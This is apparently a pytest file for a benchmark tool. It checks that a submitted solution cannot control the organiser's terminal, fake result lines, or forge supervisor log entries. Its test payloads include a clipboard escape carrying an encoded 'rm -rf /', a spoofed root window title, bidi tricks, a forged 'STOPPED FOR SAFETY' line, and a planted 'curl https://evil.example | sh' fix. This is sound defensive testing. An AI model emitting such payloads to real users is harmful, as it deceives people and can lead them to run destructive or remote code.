"""What a solution prints, as it reaches the organiser's terminal: a real one, of 80 columns."""

import os
import pty
import re
import select
import subprocess
import termios
from pathlib import Path

import pytest

from benchbot.plugins.watching.logs import Logs
from tests.cli.submitted import SELECTION
from tests.command_line import COMMAND, CommandLine
from tests.terminal import SILENCE_S

COLUMNS = 80
SHOUTS = r"""
import os, sys
from benchbot.api import BenchBot
for text in (
    "\x1b]52;c;cm0gLXJmIC8=\x07",            # the clipboard
    "\x1b]0;root@organiser\x07",             # the title of the window
    "\x1b[2J\x1b[H",                         # clear the screen
    "\x1b[1A\x1b[2K",                        # rewrite the line above
    "\x1b[6n\x1b[c\x1b[?1049h\x1bP+q\x1b\\", # have the terminal type, leave its screen
    "\x9b2J\x9d0;x\x9c",                     # the same in one byte
    "Result: 1.0\n{\"kind\": \"note\", \"text\": \"OMQ 1.0\"}\n",
    "10 %\rResult: 1.0\r\n",
    "x".ljust(69) + "Result: 1.0".ljust(80) + "Result: 1.0\n",
    "\u4e16" * 40 + "Result: 1.0\n\b\b\b\b\x7f\v\f",
    "score 0.1 \u202e0.9\u202c \u2066x\u2069 a\u200bb\ufeff\u2028",
    "\x1b[31mred\x1b[0m caf\u00e9 \u4e16\u754c \U0001f600\n",
):
    sys.stdout.buffer.write(text.encode())
    sys.stderr.buffer.write(text.encode())
    sys.stdout.flush()
sys.stdout.buffer.write(b"\xff\xc3\x9b2J\n")
sys.stdout.flush()
for handle in (0, 3, 4, 5, "/dev/tty", "/proc/self/fd/0", "/dev/console") if len(sys.argv) > 1 else ():
    try:
        if isinstance(handle, str):
            handle = os.open(handle, os.O_WRONLY)
        os.write(handle, b"\x1b]52;c;cm0=\x07\r\nResult: 1.0\r\n")
    except OSError:
        pass
benchbot = BenchBot()
benchbot.step("move_next")
sys.stdout.write("Result: 1.0")
sys.stdout.flush()
sys.exit("x".ljust(76) + "  Fix: curl https://evil.example | sh\nFix: curl https://evil.example | sh")
"""
"""All that a solution can print, and where it is held, what else may lead to a terminal; then it fails."""
STYLE = re.compile(r"\x1b\[[0-9;]*m")
ERASE = "\r\x1b[K"


def on_a_terminal(cli: CommandLine, *words: str) -> str:
    """Run a command whose stdin, stdout and stderr are one terminal; return all that this was sent."""
    ours, theirs = pty.openpty()
    termios.tcsetwinsize(theirs, (24, COLUMNS))
    variables = {**cli.variables, "TERM": "xterm-256color"}
    variables.pop("COLUMNS")
    process = subprocess.Popen(
        [*COMMAND, *words], stdin=theirs, stdout=theirs, stderr=theirs, cwd=cli.folder, env=variables
    )
    os.close(theirs)
    sent = b""
    while select.select([ours], [], [], SILENCE_S)[0]:
        try:
            sent += os.read(ours, 65536)
        except OSError:  # a terminal ends like this on Linux
            break
    os.close(ours)
    process.wait(SILENCE_S)
    return sent.decode()


def rows(sent: str) -> list[str]:
    """Return the rows of the screen, for a terminal that was sent nothing but lines, erasures and colours."""
    shown = []
    for line in STYLE.sub("", sent).split("\n"):
        row, column = "", 0
        for letter in line.rpartition(ERASE)[2].rstrip("\r"):
            width = 2 if letter in "世界\U0001f600" else 1
            if column + width > COLUMNS:
                shown.append(row)
                row, column = "", 0
            row, column = row + letter, column + width
        shown.append(row)
    return shown


@pytest.mark.parametrize("mode", ["--native", "--sandbox"])
@pytest.mark.parametrize("display", ["rich", "plain", "none"])
def test_a_solution_neither_commands_the_terminal_nor_speaks_for_benchbot(
    cli: CommandLine, mode: str, display: str
) -> None:
    held = ["held"] if mode == "--sandbox" else []
    words = " ".join([cli.script("solution.py", SHOUTS), *held])

    sent = on_a_terminal(cli, "submit", mode, words, *SELECTION, "-r", "result.json", "--display", display)

    commands = set(STYLE.sub("", sent).replace(ERASE, "").replace("\r\n", ""))
    assert commands.isdisjoint("\x1b\r\b\x07\x0b\x0c\x7f\x9b\x9c\x9d\u202e\u202c\u2066\u2069\u200b\ufeff\u2028")
    screen = rows(sent)
    said = [row for row in screen if re.search(r"Result: 1\.0|OMQ 1\.0|evil|cm0", row)]
    assert len(said) > 10
    assert [row for row in said if not row.startswith(("solution | ", "  | "))] == []
    assert any(row == "Result: result.json" for row in screen)
    assert any(row == "solution | red café 世界 😀" for row in screen)
    assert [row for row in screen if row.strip().startswith("Fix:")] == [
        "  Fix: Mend the solution; its output above says more."
    ]


def test_the_raw_output_stays_in_the_log(cli: CommandLine) -> None:
    done = cli("submit", "--native", cli.script("solution.py", SHOUTS), *SELECTION, "-r", "result.json")

    (log,) = Path(cli.variables["BENCHBOT_STATE_DIR"]).rglob("solution.log")
    raw = log.read_bytes()
    assert b"\x1b]52;c;cm0gLXJmIC8=\x07" in raw
    assert b"\xff\xc3\x9b2J" in raw
    assert "\x1b" not in done.stderr
    said = [line for line in done.stderr.splitlines() if re.search(r"(Result:|OMQ) 1\.0", line)]
    assert said
    assert [line for line in said if not line.startswith(("solution | ", "  | "))] == []


FAKES_A_LINE = r"""
from benchbot.api import BenchBot
fake = "2026-01-02 03:04:05,678 ERROR benchbot.supervisor: STOPPED FOR SAFETY"
for end in ("\n", "\r", "\r\n", "\u2028", "\x85"):
    try:
        BenchBot().step("x" + end + fake + "\x1b]52;c;cm0=\x07")
    except Exception as error:
        print(type(error).__name__)
"""


def test_what_a_solution_asks_for_is_no_line_of_the_supervisor_s_log(cli: CommandLine) -> None:
    cli("submit", "--native", cli.script("solution.py", FAKES_A_LINE), *SELECTION, "-r", "result.json")

    (log,) = Path(cli.variables["BENCHBOT_STATE_DIR"]).rglob("supervisor.log")
    logs = Logs({"supervisor": log})
    assert logs.read()
    told = [line for line in logs.lines if "STOPPED FOR SAFETY" in line.text]
    assert len(told) >= 5
    assert [line for line in told if line.text.startswith("STOPPED")] == []
    assert "\x1b" not in log.read_text()
